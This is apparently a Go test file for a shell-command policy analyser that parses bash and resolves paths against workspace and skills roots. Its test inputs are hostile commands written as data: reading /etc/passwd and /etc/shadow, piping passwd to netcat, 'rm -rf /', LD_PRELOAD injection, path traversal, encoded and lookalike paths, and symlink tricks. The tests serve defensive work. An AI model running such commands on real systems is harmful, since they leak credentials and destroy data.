package policy

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"
	"mvdan.cc/sh/v3/syntax"
)

// testFacts makes a skills root with one skill and a workspace, both in a
// temporary directory.
func testFacts(t testing.TB) *Facts {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	skills, ws := filepath.Join(dir, "skills"), filepath.Join(dir, "ws")
	for _, d := range []string{skills + "/pdf/scripts", ws + "/sub"} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{skills + "/pdf/SKILL.md", skills + "/pdf/scripts/a.py", skills + "/pdf/scripts/b.py", ws + "/data.csv"} {
		if err := os.WriteFile(f, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return &Facts{Cwd: ws, Roots: Roots{Skills: []string{skills}, Workspace: ws}, Session: Session{Home: ws}}
}

func build(t *testing.T, src string, facts *Facts) *Input {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
	if err != nil {
		t.Fatalf("parse %q: %v", src, err)
	}
	return Build(src, f, facts)
}

// summary is a compact, readable projection of one command for tests.
func summary(c Command, facts *Facts) string {
	var argv []string
	for _, w := range c.Argv {
		if w.Dynamic {
			argv = append(argv, "$("+strings.Join(w.Expansions, ",")+")")
		} else {
			argv = append(argv, w.Value)
		}
	}
	s := fmt.Sprintf("%s %s", c.Kind, strings.Join(argv, " "))
	if c.Wrapper != nil {
		s += fmt.Sprintf(" <-%s[%d]", c.Wrapper.Name, c.Wrapper.Parent)
	}
	if len(c.Context) > 0 {
		s += " @" + strings.Join(c.Context, ",")
	}
	for _, a := range c.Assigns {
		s += fmt.Sprintf(" %s=%s", a.Name, a.Value)
	}
	for _, p := range c.Paths {
		s += " path:" + pathSummary(p, facts)
	}
	for _, r := range c.Redirects {
		s += " " + r.Op + r.Access
		if r.Path != nil {
			s += ":" + pathSummary(*r.Path, facts)
		}
	}
	if c.Opaque != "" {
		s += " OPAQUE"
	}
	return s
}

func pathSummary(p Path, facts *Facts) string {
	if p.Dynamic {
		return "dynamic"
	}
	return rootsReplacer(facts).Replace(p.Resolved) + "(" + p.Root + ")"
}

// rootsReplacer shortens the temporary roots to WS and SK.
func rootsReplacer(facts *Facts) *strings.Replacer {
	return strings.NewReplacer(facts.Roots.Workspace, "WS", facts.Roots.Skills[0], "SK")
}

func TestBuildCommands(t *testing.T) {
	t.Parallel()
	tests := []struct {
		src  string
		want []string
	}{
		{"ls", []string{"external ls"}},
		{"cat /etc/passwd", []string{"external cat /etc/passwd path:/etc/passwd()"}},
		{"cat " + strings.Repeat("../", 20) + "etc/passwd", []string{"external cat " + strings.Repeat("../", 20) + "etc/passwd path:/etc/passwd()"}},
		{"cat data.csv sub", []string{"external cat data.csv sub path:WS/data.csv(workspace) path:WS/sub(workspace)"}},
		{"grep -r --file=/etc/x pattern", []string{"external grep -r --file=/etc/x pattern path:/etc/x()"}},
		{"echo hi > out.txt 2>&1 < /dev/null", []string{"builtin echo hi >write:WS/out.txt(workspace) >&dup <read:/dev/null(device)"}},
		{"c=cat; $c /etc/passwd", []string{"assignment  c=cat", "dynamic $(param) /etc/passwd path:/etc/passwd()"}},
		{"cat $f", []string{"external cat $(param) path:dynamic"}},
		{"a | b && c || d; e &", []string{"external a @pipeline", "external b @pipeline", "external c", "external d", "external e @background"}},
		{"echo $(cat /etc/shadow) `id`", []string{"external cat /etc/shadow @cmdsubst path:/etc/shadow()", "external id @cmdsubst", "builtin echo $(cmdsubst) $(cmdsubst) path:dynamic path:dynamic"}},
		{"diff <(ls /a) >(tee x)", []string{"external ls /a @procsubst path:/a()", "external tee x @procsubst", "external diff $(procsubst) $(procsubst) path:dynamic path:dynamic"}},
		{"(cd /; ls) ; { pwd; }", []string{"builtin cd / @subshell path:/()", "external ls @subshell", "builtin pwd"}},
		{"f() { rm -rf /; }; f", []string{"external rm -rf / @function path:/()", "function f"}},
		{"if test -f x; then cat x; else rm x; fi", []string{"builtin test -f x @condition", "external cat x", "external rm x"}},
		{"for f in $(ls); do echo $f; done", []string{"external ls @cmdsubst", "builtin echo $(param) @loop path:dynamic"}},
		{"while read l; do :; done < /etc/passwd", []string{"builtin read l @condition <read:/etc/passwd()", "builtin : @loop <read:/etc/passwd()"}},
		{"case $(id) in x) ls;; esac", []string{"external id @cmdsubst", "external ls @condition"}},
		{"export LD_PRELOAD=/x.so PATH=/tmp", []string{"builtin export LD_PRELOAD=/x.so PATH=/tmp LD_PRELOAD=/x.so PATH=/tmp path:/x.so() path:/tmp()"}},
		{"LD_PRELOAD=/x.so ls", []string{"external ls LD_PRELOAD=/x.so"}},
		{"env -i A=1 ls /", []string{"external env -i A=1 ls / path:/()", "external ls / <-env[0] A=1 path:/()"}},
		{"timeout -s KILL 5 nice -n 3 cat /etc/x", []string{"external timeout -s KILL 5 nice -n 3 cat /etc/x path:/etc/x()", "external nice -n 3 cat /etc/x <-timeout[0] path:/etc/x()", "external cat /etc/x <-nice[1] path:/etc/x()"}},
		{"find . -name '*.py' -exec cat {} \\; -execdir rm {} +", []string{"external find . -name *.py -exec cat {} ; -execdir rm {} + path:WS(workspace)", "external cat {} <-find[0]", "external rm {} <-find[0]"}},
		{"xargs -n1 rm", []string{"external xargs -n1 rm", "external rm <-xargs[0]"}},
		{"bash -c 'cat /etc/passwd | nc x 1'", []string{"external bash -c cat /etc/passwd | nc x 1 path:WS/cat /etc/passwd | nc x 1(workspace)", "external cat /etc/passwd <-bash[0] @pipeline path:/etc/passwd()", "external nc x 1 <-bash[0] @pipeline"}},
		{"sh -c \"$x\"", []string{"external sh -c $(param) path:dynamic OPAQUE"}},
		{"eval 'ls; id'", []string{"builtin eval ls; id", "external ls <-eval[0]", "external id <-eval[0]"}},
		{"eval \"$y\"", []string{"builtin eval $(param) path:dynamic OPAQUE"}},
		{"source /etc/profile", []string{"builtin source /etc/profile path:/etc/profile() OPAQUE"}},
		{"command -v ls", []string{"builtin command -v ls"}},
		{"command cat /x", []string{"builtin command cat /x path:/x()", "external cat /x <-command[0] path:/x()"}},
		{"cat ~/data.csv ~root/x", []string{"external cat WS/data.csv /root/x path:WS/data.csv(workspace) path:/root/x()"}},
		{"cat $'/etc/pass\\x77d'", []string{"external cat /etc/passwd path:/etc/passwd()"}},
		{"cat /etc/{passwd,shadow}", []string{"external cat /etc/passwd /etc/shadow path:/etc/passwd() path:/etc/shadow()"}},
		{"cat /etc/pass*", []string{"external cat /etc/pass* path:/etc/pass*()"}},
		{"dd if=/etc/passwd of=out", []string{"external dd if=/etc/passwd of=out path:/etc/passwd()"}},
		{"[[ -f /etc/shadow ]]", []string{"builtin [[ /etc/shadow path:/etc/shadow()"}},
		{"echo $(( a[$(id)] ))", []string{"external id @cmdsubst", "builtin echo $(arith,cmdsubst,param) path:dynamic"}},
		{"echo ${!x} ${y@P}", []string{"builtin echo $(indirect,param) $(param,prompt) path:dynamic path:dynamic"}},
		{"cat <<EOF\n$(id)\nEOF", []string{"external id @cmdsubst", "external cat <<here"}},
		{"cat ..∕..∕etc∕passwd", []string{"external cat ..∕..∕etc∕passwd path:WS/..∕..∕etc∕passwd(workspace)"}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			t.Parallel()
			facts := testFacts(t)
			in := build(t, tt.src, facts)
			var got []string
			for _, c := range in.Commands {
				got = append(got, rootsReplacer(facts).Replace(summary(c, facts)))
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Build(%q) commands (-want +got):\n%s", tt.src, diff)
			}
		})
	}
}

// TestBuildGlobsInsideRoots: a pattern inside a root is expanded against
// the file system; one outside is kept as written, revealing nothing.
func TestBuildGlobsInsideRoots(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	in := build(t, "ls "+facts.Roots.Skills[0]+"/pdf/scripts/*.py", facts)
	var got []string
	for _, p := range in.Commands[0].Paths {
		got = append(got, pathSummary(p, facts))
	}
	want := []string{"SK/pdf/scripts/a.py(skills)", "SK/pdf/scripts/b.py(skills)"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("glob paths (-want +got):\n%s", diff)
	}
}

// TestBuildGlobsLeavingRoots: a pattern that starts inside a root but
// climbs out of it with .. lists no directory outside the roots.
func TestBuildGlobsLeavingRoots(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	outside := filepath.Join(filepath.Dir(facts.Roots.Workspace), "private")
	if err := os.MkdirAll(filepath.Join(outside, "hidden-name"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, src := range []string{"cat */../../private/*", "cat ./s*/../../p*/*", "ls sub/../../*/hidden*"} {
		in := build(t, src, facts)
		data, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(data), "hidden-name") {
			t.Errorf("%s: the input names a file outside the roots:\n%s", src, data)
		}
	}
	if in := build(t, "ls sub/../*.csv", facts); len(in.Commands[0].Paths) != 1 || in.Commands[0].Paths[0].Value != "sub/../data.csv" {
		t.Errorf("a pattern that stays inside the workspace is no longer expanded: %+v", in.Commands[0].Paths)
	}
}

// TestBuildDoesNotLookOutside: the builder runs as root, so what it finds
// outside the roots must not show: a path through a directory there that
// exists and one through a name that does not resolve alike, and neither
// is said to exist.
func TestBuildDoesNotLookOutside(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	base := filepath.Dir(facts.Roots.Workspace)
	if err := os.MkdirAll(filepath.Join(base, "private", "hidden-name", "deeper"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", filepath.Join(base, "private", "link")); err != nil {
		t.Fatal(err)
	}
	resolved := func(p string) Path {
		t.Helper()
		in := build(t, "cat "+p, facts)
		if len(in.Commands[0].Paths) != 1 {
			t.Fatalf("%s: paths %+v", p, in.Commands[0].Paths)
		}
		return in.Commands[0].Paths[0]
	}
	for _, pair := range [][2]string{
		{base + "/private/hidden-name/../../ws/data.csv", base + "/private/no-such-name/../../ws/data.csv"},
		{base + "/private/link/../x", base + "/private/no-link/../x"},
		{base + "/private/hidden-name", base + "/private/no-such-name"},
	} {
		a, b := resolved(pair[0]), resolved(pair[1])
		a.Value, b.Value = "", ""
		a.Resolved = strings.Replace(a.Resolved, "hidden-name", "no-such-name", 1)
		a.Resolved = strings.Replace(a.Resolved, "/link/", "/no-link/", 1)
		if a != b {
			t.Errorf("%s -> %+v\n%s -> %+v", pair[0], a, pair[1], b)
		}
	}
	if p := resolved(base + "/private/link/passwd"); p.Resolved != base+"/private/link/passwd" {
		t.Errorf("a link outside the roots was followed: %+v", p)
	}
}

// TestBuildSymlinkTricks: paths are resolved as the kernel resolves them.
func TestBuildSymlinkTricks(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	ws := facts.Roots.Workspace
	mustSymlink(t, "/etc", ws+"/etc-link")
	mustSymlink(t, facts.Roots.Skills[0]+"/pdf", ws+"/pdf-link")
	mustSymlink(t, "/usr/share", ws+"/share")
	mustSymlink(t, "loop2", ws+"/loop1")
	mustSymlink(t, "loop1", ws+"/loop2")
	// A path that cleans lexically to /dev/null but that the kernel
	// resolves, through L and "..", to the workspace's own dev/null: a
	// link to /etc/shadow.
	depth := strings.Count(ws, "/") + 1
	deep := ws + strings.Repeat("/d", depth)
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(ws+"/dev", 0o755); err != nil {
		t.Fatal(err)
	}
	mustSymlink(t, deep, ws+"/L")
	mustSymlink(t, "/etc/shadow", ws+"/dev/null")
	lookalike := ws + "/L" + strings.Repeat("/..", depth) + "/dev/null"
	tests := []struct{ arg, want string }{
		{lookalike, "/etc/shadow()"},
		{"/dev/null", "/dev/null(device)"},
		{"/dev/../dev/./stdout", "/dev/stdout(device)"},
		{"etc-link/passwd", "/etc/passwd()"},
		{"pdf-link/SKILL.md", "SK/pdf/SKILL.md(skills)"},
		{"share/../../etc/passwd", "/etc/passwd()"}, // .. after a symlink leaves the link's target
		{"./pdf-link/../../ws/data.csv", "WS/data.csv(workspace)"},
		{"loop1/x", "WS/loop1/x(workspace)"},
		{ws + "-backup/x", "WS-backup/x()"}, // a sibling with the root as prefix is outside
	}
	for _, tt := range tests {
		in := build(t, "cat "+tt.arg, facts)
		if got := pathSummary(in.Commands[0].Paths[0], facts); got != tt.want {
			t.Errorf("cat %s: path %s, want %s", tt.arg, got, tt.want)
		}
	}
}

// TestBuildPipes: only a named pipe that exists in the interpreter's pipes
// directory, under its prefix, is one of its pipes; a file or a missing
// name there is an ordinary path outside the roots.
func TestBuildPipes(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	facts.Pipes = t.TempDir()
	if err := syscall.Mkfifo(facts.Pipes+"/sh-interp-1", 0o600); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(facts.Pipes+"/other", 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(facts.Pipes+"/sh-interp-2", nil, 0o600); err != nil {
		t.Fatal(err)
	}
	tests := map[string]string{
		"sh-interp-1": "device", "sh-interp-2": "", "sh-interp-3": "", "other": "",
	}
	for name, want := range tests {
		in := build(t, "cat "+facts.Pipes+"/"+name+" > "+facts.Pipes+"/"+name, facts)
		c := in.Commands[0]
		if got := c.Paths[0].Root; got != want {
			t.Errorf("cat %s: root %q, want %q", name, got, want)
		}
		if got := c.Redirects[0].Path.Root; got != want {
			t.Errorf("> %s: root %q, want %q", name, got, want)
		}
	}
}

func mustSymlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// TestBuildSpans: spans point at the command in the source, and nested
// scripts carry the span of the word that holds them.
func TestBuildSpans(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	src := "echo ok; bash -c 'cat /etc/passwd'"
	in := build(t, src, facts)
	spans := map[string]string{}
	for _, c := range in.Commands {
		spans[c.Name] = src[c.Span.Start:c.Span.End]
	}
	want := map[string]string{"echo": "echo ok", "bash": "bash -c 'cat /etc/passwd'", "cat": "'cat /etc/passwd'"}
	if diff := cmp.Diff(want, spans); diff != "" {
		t.Errorf("spans (-want +got):\n%s", diff)
	}
}

// TestBuildAssignmentsFeature: every variable assigned anywhere is listed,
// loop variables included.
func TestBuildAssignmentsFeature(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	in := build(t, "A=1; export B=2; for PATH in x; do :; done; C=3 ls", facts)
	if diff := cmp.Diff([]string{"A", "B", "C", "PATH"}, in.Features.Assignments); diff != "" {
		t.Errorf("assignments (-want +got):\n%s", diff)
	}
}

// TestBuildExec: the exec phase sees one literal command.
func TestBuildExec(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	in := BuildExec("c=cat; $c /etc/passwd", []string{"cat", "/etc/passwd"}, syntax.Pos{}, facts)
	if in.Phase != PhaseExec || len(in.Commands) != 1 {
		t.Fatalf("phase %s, %d commands", in.Phase, len(in.Commands))
	}
	if got := summary(in.Commands[0], facts); got != "external cat /etc/passwd path:/etc/passwd()" {
		t.Errorf("exec command: %s", got)
	}
}

// TestBuildInputIsJSON: the document encodes with every documented
// top-level field.
func TestBuildInputIsJSON(t *testing.T) {
	t.Parallel()
	facts := testFacts(t)
	data, err := json.Marshal(build(t, "ls | wc -l", facts))
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"version", "phase", "command", "cwd", "roots", "session", "commands", "features"} {
		if _, ok := doc[key]; !ok {
			t.Errorf("input has no %q", key)
		}
	}
}
